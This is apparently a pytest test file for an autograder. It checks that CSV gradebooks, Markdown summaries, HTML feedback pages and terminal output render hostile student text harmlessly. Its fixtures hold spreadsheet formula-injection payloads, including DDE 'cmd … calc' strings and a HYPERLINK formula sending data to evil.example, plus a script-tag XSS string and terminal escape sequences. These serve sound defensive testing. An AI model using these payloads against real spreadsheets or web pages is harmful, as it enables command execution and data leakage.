"""Safe outputs: no CSV cell the project writes is a formula, and student text in the
Markdown summary and the HTML feedback page renders as text."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest

from autograder.batch import gradebook, summary
from autograder.batch.submitters import Submitter
from autograder.feedback.page import render_page
from autograder.lms.canvas import CanvasAssignment, gradebook_csv, match_grades
from autograder.lms.results_in import GradedSubmission
from autograder.lms.roster import Roster
from autograder.reporters.spreadsheet import FORMULA_TRIGGERS, safe_cell
from autograder.results import GradeResult
from autograder.results import TestResult as Outcome

# What students (or a roster) can put in a name, an email or an id.
FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "@SUM(A1:A9)", "+1+cmd|' /C calc'!A0",
            "-2+3", "\t=1+1", "\r=1+1", "\uff1d1+1", '=cmd|"/c calc"!A1']


def _cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


def _is_formula(cell: str) -> bool:
    return cell.startswith(FORMULA_TRIGGERS)


@pytest.mark.parametrize("value", FORMULAS)
def test_a_formula_becomes_text(value: str) -> None:
    cell = safe_cell(value)
    assert cell == "'" + value.replace("\r", "\n") and not _is_formula(cell)


@pytest.mark.parametrize("value", ["-1.5", "2e-3", "+4", "0", "", "Ada Lovelace", "a=b"])
def test_numbers_and_plain_text_are_left_alone(value: str) -> None:
    assert safe_cell(value) == value


def _result(score: float, error: str = "") -> GradeResult:
    tests = [Outcome("mse is right", score, 1, "passed" if score else "failed",
                     error or "ok")]
    return GradeResult.from_tests("mse", tests, execution_time=1.0,
                                  errors=[error] if error else [])


def test_the_gradebook_has_no_formula_cell() -> None:
    submitters = {f"s{n}": (Submitter(name=text, email=text, student_id=text),)
                  for n, text in enumerate(FORMULAS)}
    results = {key: _result(1.0) for key in submitters} | {"=evil": _result(0.0)}
    rows = _cells(gradebook.render(results, ["=test name"], submitters))
    cells = [cell for row in rows for cell in row]
    assert not [c for c in cells if _is_formula(c)]
    assert {row[1] for row in rows[1:] if row[1]} == {safe_cell(text) for text in FORMULAS}
    assert all(row[4] in ("0", "1") for row in rows[1:])  # scores stay numbers


def test_the_canvas_gradebook_has_no_formula_cell(tmp_path: Path) -> None:
    roster = tmp_path / "roster.csv"
    lines = ["Student,ID,SIS User ID,SIS Login ID,Section"]
    lines += [f'"{text.replace(chr(34), chr(34) * 2)}",{1000 + n},"{text.replace(chr(34), "")}",'
              f'login{n},"@section"' for n, text in enumerate(FORMULAS)]
    roster.write_bytes(("\n".join(lines) + "\n").encode("utf-8"))
    people = Roster.read(roster)
    assert len(people.students) == len(FORMULAS)
    assignment = CanvasAssignment("mse", 77, "=MSE", None)
    graded = [GradedSubmission(f"login{n}", _result(1.0)) for n in range(len(FORMULAS))]
    matching = match_grades(graded, people, [assignment])
    assert len(matching.grades) == len(FORMULAS)
    rows = _cells(gradebook_csv(people, [assignment], matching.grades, {"mse": 1.0}))
    assert not [c for row in rows for c in row if _is_formula(c)]
    assert [row[-1] for row in rows[2:]] == ["1"] * len(FORMULAS)


HOSTILE = ("boom | x [click](http://evil.example) <script>alert(1)</script> *b*\n"
           "| injected | row |")


def test_the_summary_escapes_student_text() -> None:
    results = {"a|b": _result(0.0, HOSTILE), "c": _result(1.0)}
    data = summary.build(exercise="mse", grader_version="v", sandbox="local",
                         submissions=sorted(results), results=results,
                         test_names=["mse is right"],
                         run={"graded_now": 2, "from_cache": 0, "wall_seconds": 1.0,
                              "workers": "", "skipped": ["<b>odd</b> (a link)"]})
    text = summary.render_markdown(data)
    assert "<script>" not in text and "<b>" not in text and "&lt;script&gt;" in text
    assert "[click](" not in text and "\\[click\\]" in text
    errors = text.split("## Errors by cause", 1)[1].split("##", 1)[0]
    rows = [line for line in errors.splitlines() if line.startswith("| 1 |")]
    assert len(rows) == 1  # the message's newline and pipes did not add a row or a column
    assert rows[0].replace("\\|", "").count("|") == 4


def test_the_feedback_page_escapes_student_text() -> None:
    page = render_page(_result(0.0, HOSTILE))
    assert "<script>" not in page and "&lt;script&gt;alert(1)&lt;/script&gt;" in page


def test_the_terminal_summary_prints_student_text_literally() -> None:
    from autograder.reporters.summary import render

    hostile = "\x1b]0;owned\x07\x1b[2J\rcleared\x08"
    text = render(_result(0.0, hostile))
    assert "\x1b" not in text and "\r" not in text and "\x08" not in text and "\x07" not in text
    assert "?]0;owned??[2J" in text  # shown, not obeyed
